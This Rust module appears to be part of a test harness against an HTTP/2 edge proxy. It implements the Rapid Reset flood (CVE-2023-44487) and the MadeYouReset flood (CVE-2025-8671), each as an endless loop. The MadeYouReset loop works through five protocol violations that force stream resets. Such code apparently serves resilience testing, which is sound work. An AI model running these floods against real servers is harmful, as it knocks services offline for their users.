//! Requests that are over before they were served: taken back by the attacker (CVE-2023-44487), or by the edge because the attacker
//! breaks a rule on each (CVE-2025-8671).

use std::io;

use super::frames::{CANCEL, END_HEADERS, END_STREAM, Kind, frame, number};
use super::session::{Session, export};
use super::wire::Wire;
use crate::attacks::hostile::frames;

/// Requests written at once.
const BATCH: u64 = 32;

async fn rapid(wire: Wire, credential: &str) -> io::Result<()> {
    let mut session = Session::open(wire, &[]).await?;
    let block = export(credential);
    loop {
        let mut out = Vec::new();
        for _ in 0..BATCH {
            let stream = session.request(&mut out, false, &block)?;
            number(&mut out, Kind::Reset, stream, CANCEL);
        }
        session.send(&out, 2 * BATCH).await?;
    }
}

/// By somebody without a key.
pub(super) async fn rapid_stranger(wire: Wire) -> io::Result<()> {
    rapid(wire, "Bearer nobody").await
}

/// By a tenant, whose requests go as far as the upstream.
pub(super) async fn rapid_tenant(wire: Wire) -> io::Result<()> {
    let credential = format!("Bearer {}", wire.attacker.key);
    rapid(wire, &credential).await
}

/// Makes the edge reset each stream, by one broken rule on each connection.
pub(super) async fn made_you_reset(wire: Wire) -> io::Result<()> {
    let rule = wire.number % 5;
    let credential = format!("Bearer {}", wire.attacker.key);
    let mut session = Session::open(wire, &[]).await?;
    let block = export(&credential);
    let mut too_short = block.clone();
    frames::literal(&mut too_short, "content-length", b"5");
    loop {
        let mut out = Vec::new();
        for _ in 0..BATCH {
            match rule {
                // An increment of nothing.
                0 => {
                    let stream = session.request(&mut out, false, &block)?;
                    number(&mut out, Kind::WindowUpdate, stream, 0);
                }
                // More than a window holds.
                1 => {
                    let stream = session.request(&mut out, false, &block)?;
                    number(&mut out, Kind::WindowUpdate, stream, 0x7fff_ffff);
                }
                // Data after the end.
                2 => {
                    let stream = session.request(&mut out, true, &block)?;
                    frame(&mut out, Kind::Data, 0, stream, b"late");
                }
                // An end before what was announced.
                3 => {
                    session.request(&mut out, true, &too_short)?;
                }
                // Trailers that do not end the request.
                _ => {
                    let stream = session.request(&mut out, false, &block)?;
                    frame(&mut out, Kind::Headers, END_HEADERS, stream, &[]);
                    frame(&mut out, Kind::Data, END_STREAM, stream, &[]);
                }
            }
        }
        session.send(&out, 2 * BATCH).await?;
    }
}
